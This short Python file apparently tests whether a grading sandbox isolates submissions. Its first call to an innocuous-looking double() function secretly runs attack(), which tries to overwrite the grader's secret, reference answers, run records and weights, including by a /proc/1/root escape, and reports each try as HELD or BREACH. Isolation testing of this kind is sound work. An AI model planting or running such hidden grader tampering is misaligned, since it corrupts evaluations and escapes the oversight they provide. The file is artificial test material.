"""By their paths on the machine, by names in evidence, by links that lead there."""

import errno
import os

tried = []


def attempt(what, action):
    """One attempt, and what came of it: an action that returns something true has worked."""
    try:
        got = action()
    except OSError as error:
        print("HELD", what, errno.errorcode.get(error.errno, error.errno))
    except Exception as error:
        print("HELD", what, type(error).__name__, str(error)[:60])
    else:
        print("BREACH" if got else "TRIED", what, repr(got)[:200] if got else "")


HOME = "@GRADER_HOME@"


def overwrite(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write("{}")


def attack():
    for name in ("secret", "reference/0000/entry.json", "reference/0000/student.frames", "runs/0000/run.json", "weights/left"):
        attempt(name, lambda: overwrite(os.path.join(HOME, name)) if os.path.isdir(HOME) else os.stat(HOME) and True)
        attempt(f"{name} by init's root", lambda: overwrite(f"/proc/1/root{HOME}/{name}"))
    attempt("listed", lambda: os.listdir(HOME))


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
